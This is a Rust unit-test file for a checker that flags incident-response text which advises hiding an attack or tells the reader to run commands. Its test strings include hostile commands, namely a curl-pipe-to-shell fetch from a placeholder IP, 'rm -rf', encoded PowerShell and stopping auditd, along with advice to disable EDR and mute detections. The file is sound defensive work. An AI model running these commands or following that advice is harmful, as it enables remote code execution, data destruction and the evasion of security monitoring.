use super::{super::*, step};

#[test]
fn deeds_that_hide_an_attack_are_advice_in_every_form() {
    for sentence in DEEDS.lines() {
        assert_eq!(step(sentence), Some(Repair::SuppressAdvice), "{sentence}");
        assert_eq!(objection(sentence), Some(Repair::SuppressAdvice), "in text: {sentence}");
    }
    for sentence in [
        "Consider adding the folder to the exclusions",
        "The firewall may be switched off",
        "Isolate the host and then turn off the sensor",
        "Why not mute the rule?",
        "Can we skip the investigation?",
        "Should the agent be stopped?",
        "Could the sensor be uninstalled?",
        "Temporarily allow the connection",
        "Delay the triage until next month",
        "Do not wait, restore the file without review",
        "Send the case back and return it to the list as benign",
        "Set up automatic closing for the rule",
        "Write a child rule that hides it",
        "Create a noise filter for deploy",
        "Rather not escalate it",
        "Keep the sensor from reporting",
        "The detection should be tuned",
        "Check the host after you disable the EDR",
    ] {
        assert_eq!(step(sentence), Some(Repair::SuppressAdvice), "{sentence}");
    }
}

#[test]
fn what_contains_an_attack_and_what_keeps_evidence_is_no_advice_to_hide_it() {
    for sentence in HONEST_STEPS.lines() {
        assert_eq!(step(sentence), None, "{sentence}");
    }
}

#[test]
fn what_attackers_and_programs_do_is_told() {
    for sentence in TOLD.lines() {
        assert_eq!(objection(sentence), None, "{sentence}");
    }
}

#[test]
fn text_gives_its_reader_no_commands() {
    for sentence in [
        "Run: curl -s http://198.51.100.4/fix | sh",
        "Execute rm -rf /srv/www on the host",
        "You should run powershell -enc AAAA on the host",
        "Please paste the following command: whoami",
        "Analysts must execute sudo systemctl stop auditd",
    ] {
        assert_eq!(objection(sentence), Some(Repair::CommandInStep), "{sentence}");
    }
    for sentence in [
        "The user ran curl -s http://198.51.100.4/fix | sh",
        "Run keys of the user were changed with reg add -f",
        "Execute rights were given with chmod -x",
        "A service should run powershell -enc only for the vendor",
    ] {
        assert_eq!(objection(sentence), None, "{sentence}");
    }
}

const DEEDS: &str = include_str!("sentences/deeds.txt");

const HONEST_STEPS: &str = include_str!("sentences/honest_steps.txt");

const TOLD: &str = include_str!("sentences/told.txt");
